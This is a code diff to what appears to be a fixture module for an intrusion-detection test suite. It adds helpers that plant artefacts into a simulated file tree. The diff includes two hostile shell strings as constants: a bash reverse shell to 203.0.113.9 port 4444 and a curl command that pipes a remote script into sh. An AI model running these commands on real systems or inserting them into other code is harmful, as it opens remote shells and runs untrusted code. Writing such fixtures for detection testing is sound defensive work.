@@ -1,6 +1,6 @@
 /** One thing an intruder left: how it is put there, and what a finding of medium or above has to name. */
 
-import type { Tree, TreePath } from './tree.ts';
+import type { Put, Tree, TreePath } from './tree.ts';
 
 export type Family = 'accounts' | 'trust' | 'services' | 'start-up' | 'environment' | 'files' | 'names' | 'web' | 'evidence' | 'packages';
 
@@ -29,4 +29,19 @@ export function elf(words: string, type: 'program' | 'library' | 'module' = 'pro
 	header.writeUInt32LE(1, 20);
 	header.writeUInt16LE(64, 52);
 	return Buffer.concat([header, Buffer.from(`\0${words}\0`), Buffer.alloc(900, 0x90)]);
+}
+
+export const reverse = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
+export const fetched = 'curl -fsSL http://203.0.113.9/k | sh';
+export const run = { mode: 0o755 } as const;
+
+/** A sign that is one file. */
+export function file(id: string, family: Family, what: string, path: string, content: string | Buffer, put: Put & { readonly issue?: 4 | 5; readonly also?: readonly string[] } = {}): Sign {
+	const { issue, also, ...how } = put;
+	return { id, family, what, names: [path], plant: tree => tree.write(path, content, how), ...(issue === undefined ? {} : { issue }), ...(also === undefined ? {} : { also }) };
+}
+
+/** A sign that is a line more in a file. */
+export function line(id: string, family: Family, what: string, path: string, text: string): Sign {
+	return { id, family, what, names: [path], plant: tree => tree.append(path, text) };
 }
